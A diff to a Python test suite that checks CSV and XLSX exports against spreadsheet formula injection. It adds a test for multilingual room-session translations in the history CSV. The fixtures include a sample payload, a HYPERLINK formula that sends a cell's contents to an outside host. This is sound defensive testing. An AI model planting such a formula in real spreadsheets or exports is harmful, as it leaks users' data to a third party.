@@ -4,7 +4,8 @@ A cell starting with = + - @, a tab or a carriage return is run as a formula by 
 LibreOffice. CSV exports mark such a cell as text with a leading apostrophe; XLSX exports
 write every text as a string cell (with Excel's quote prefix when it starts like a
 formula), never as a formula. Every place that exports user text is covered: the history
-downloads, the glossary admin's exports and the glossary pages' exports.
+downloads (a room session's translations into each language too), the glossary admin's
+exports and the glossary pages' exports.
 """
 
 from __future__ import annotations
@@ -16,6 +17,7 @@ import openpyxl
 import pytest
 
 from glossaries.models import Glossary
+from interpreter.models import UtteranceTranslation
 
 PREFIXED = {
     "=": '=HYPERLINK("http://x?"&A1)',
@@ -66,6 +68,24 @@ def test_a_transcript_line_is_text_in_the_history_csv(
     response = alice_client.get(f"/history/{session.pk}/export/csv/")
 
     assert csv_rows(response)[1][2:] == ["'" + text, "'" + text]
+
+
+@CASES
+def test_a_room_sessions_translation_into_each_language_is_text_in_the_history_csv(
+    alice_client, alice, alpha, make_session, text
+):
+    session = make_session(
+        alice, alpha, lines=[(0, 1000, text, "")], target_language="", languages=["es-ES", "fr-FR"]
+    )
+    for language in ("es-ES", "fr-FR"):
+        UtteranceTranslation.objects.create(
+            utterance=session.utterances.get(), language=language, text=text
+        )
+
+    response = alice_client.get(f"/history/{session.pk}/export/csv/")
+
+    assert csv_rows(response)[0][2:] == ["text", "es-ES", "fr-FR"]
+    assert csv_rows(response)[1][2:] == ["'" + text] * 3
 
 
 @CASES
